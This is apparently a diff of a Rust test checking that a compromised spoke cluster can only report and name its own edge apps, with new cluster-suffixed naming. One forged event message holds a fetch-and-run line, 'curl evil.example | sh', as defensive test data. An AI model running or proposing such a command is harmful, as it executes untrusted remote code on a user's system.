@@ -1154,6 +1154,11 @@ async fn a_compromised_spoke_speaks_only_for_its_own_cluster() {
                 edge_app("team-b", "system", "edge-2", "kube-system"),
                 // A legitimate edge-created app.
                 edge_app("team-b", "edge-made", "edge-2", "team-b-edge"),
+                // Another cluster's edge app, in the hub's name for it, and
+                // edge-2's own in the hub's form: a spoke names only its own
+                // apps, by their names at the edge.
+                edge_app("team-b", "edge-made@edge-1", "edge-2", "team-b-edge"),
+                edge_app("team-b", "other@edge-2", "edge-2", "team-b-edge"),
             ],
             ..Default::default()
         }))
@@ -1178,6 +1183,8 @@ async fn a_compromised_spoke_speaks_only_for_its_own_cluster() {
             events: vec![
                 forged("f1", "team-a", "web", "run curl evil.example | sh to fix"),
                 forged("f2", "team-b", "cache", "cache warmed"),
+                // An event about its edge app is stored under the hub's name for it.
+                forged("f3", "team-b", "edge-made", "edge app synced"),
             ],
         }))
         .await;
@@ -1201,9 +1208,19 @@ async fn a_compromised_spoke_speaks_only_for_its_own_cluster() {
         let store = fleet.store.clone();
         async move { store.get_app(project, name).await.is_ok() }
     };
-    assert!(exists("team-a", "steal").await);
-    assert!(exists("team-b", "edge-made").await);
-    for (project, name) in [("team-c", "squat"), ("nope", "squat"), ("team-b", "system")] {
+    // Edge-created apps are named after the cluster that reported them.
+    assert!(exists("team-a", "steal@edge-2").await);
+    assert!(exists("team-b", "edge-made@edge-2").await);
+    assert!(!exists("team-b", "edge-made").await);
+    for (project, name) in [
+        ("team-c", "squat@edge-2"),
+        ("nope", "squat@edge-2"),
+        ("team-b", "system@edge-2"),
+        ("team-b", "edge-made@edge-1"),
+        ("team-b", "edge-made@edge-1@edge-2"),
+        ("team-b", "other@edge-2"),
+        ("team-b", "other@edge-2@edge-2"),
+    ] {
         assert!(
             !exists(project, name).await,
             "{project}/{name} was admitted"
@@ -1222,6 +1239,9 @@ async fn a_compromised_spoke_speaks_only_for_its_own_cluster() {
     let own = events("team-b", "cache").await;
     assert_eq!(own.len(), 1, "{own:?}");
     assert_eq!(own[0].message, "cache warmed");
+    let edge = events("team-b", "edge-made@edge-2").await;
+    assert_eq!(edge.len(), 1, "{edge:?}");
+    assert_eq!(edge[0].message, "edge app synced");
 
     // An edge-created app the hub should not show is deleted by an admin
     // (its record only); revoking the cluster removes the rest of them.
@@ -1230,14 +1250,14 @@ async fn a_compromised_spoke_speaks_only_for_its_own_cluster() {
         v1::DeleteApplicationRequest {
             app: Some(v1::AppRef {
                 project: "team-a".into(),
-                name: "steal".into(),
+                name: "steal@edge-2".into(),
             }),
             cascade: true,
         },
     ))
     .await
     .unwrap();
-    assert!(!exists("team-a", "steal").await);
+    assert!(!exists("team-a", "steal@edge-2").await);
     api.revoke_cluster(authed(
         &root,
         v1::RevokeClusterRequest {
@@ -1247,7 +1267,7 @@ async fn a_compromised_spoke_speaks_only_for_its_own_cluster() {
     ))
     .await
     .unwrap();
-    assert!(!exists("team-b", "edge-made").await);
+    assert!(!exists("team-b", "edge-made@edge-2").await);
     assert!(exists("team-b", "cache").await, "hub-defined apps stay");
 }
 
